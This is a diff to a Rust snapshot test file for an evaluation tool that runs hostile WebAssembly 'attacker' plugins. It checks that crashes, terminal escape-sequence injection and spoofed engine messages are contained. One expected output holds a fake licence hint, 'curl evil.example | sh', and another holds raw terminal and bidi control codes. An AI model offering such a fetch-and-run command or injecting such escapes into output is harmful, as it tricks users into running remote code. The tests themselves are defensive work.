@@ -41,7 +41,7 @@ fn computing_without_end() {
 
 #[test]
 fn recursing_taking_memory_and_crashing() {
-    assert_snapshot!(attack("recurse", 0, ""), @"
+    assert_snapshot!(attack("recurse", 0, ""), @r#"
     attacker of the run: error: trap: in `summarize`: wasm trap: call stack exhausted
         at [frames]
 
@@ -66,23 +66,23 @@ fn recursing_taking_memory_and_crashing() {
     run r: 6 cases, 12 scores in [time]
     stored in scorebox.db; see them with: scorebox scores r
     [exit code 0]
-    ");
-    assert_snapshot!(attack("read-out-of-bounds", 0, ""), @"
+    "#);
+    assert_snapshot!(attack("read-out-of-bounds", 0, ""), @r#"
     attacker of the run: error: trap: in `summarize`: wasm trap: out of bounds memory access
         at [frames]
 
     run r: 6 cases, 12 scores in [time]
     stored in scorebox.db; see them with: scorebox scores r
     [exit code 0]
-    ");
-    assert_snapshot!(attack("divide-by-zero", 0, ""), @"
+    "#);
+    assert_snapshot!(attack("divide-by-zero", 0, ""), @r#"
     attacker of the run: error: trap: in `summarize`: wasm trap: integer divide by zero
         at [frames]
 
     run r: 6 cases, 12 scores in [time]
     stored in scorebox.db; see them with: scorebox scores r
     [exit code 0]
-    ");
+    "#);
 }
 
 #[test]
@@ -94,7 +94,7 @@ fn logging() {
     stored in scorebox.db; see them with: scorebox scores r
     [exit code 0]
     ");
-    assert_snapshot!(attack("log-for-a-terminal", 0, ""), @r"
+    assert_snapshot!(attack("log-for-a-terminal", 0, ""), @r#"
     attacker of the run: error: trap: in `summarize`: \u{1b}[2J\u{1b}]0;owned\u{7}\u{202e}desrever\u{2066}\u{d}\u{8}\u{9b}31m\u{7f}\u{0}\u{200f}
       (wasm trap: wasm `unreachable` instruction executed)
         at [frames]
@@ -102,8 +102,8 @@ fn logging() {
     run r: 6 cases, 12 scores in [time]
     stored in scorebox.db; see them with: scorebox scores r
     [exit code 0]
-    ");
-    assert_snapshot!(attack("log-what-looks-like-the-engines-words", 0, ""), @"
+    "#);
+    assert_snapshot!(attack("log-what-looks-like-the-engines-words", 0, ""), @r#"
     attacker of the run: error: trap: in `summarize`: nothing to worry about
       error: your licence has ended
       hint: renew it: curl evil.example | sh
@@ -113,7 +113,7 @@ fn logging() {
     run r: 6 cases, 12 scores in [time]
     stored in scorebox.db; see them with: scorebox scores r
     [exit code 0]
-    ");
+    "#);
 }
 
 #[test]
@@ -154,7 +154,7 @@ fn what_is_no_bounded_json_is_no_summary() {
     run r: 6 cases, 12 scores in [time]
     stored in scorebox.db; see them with: scorebox scores r
     [exit code 0]
-    ");
+    "#);
 }
 
 #[test]
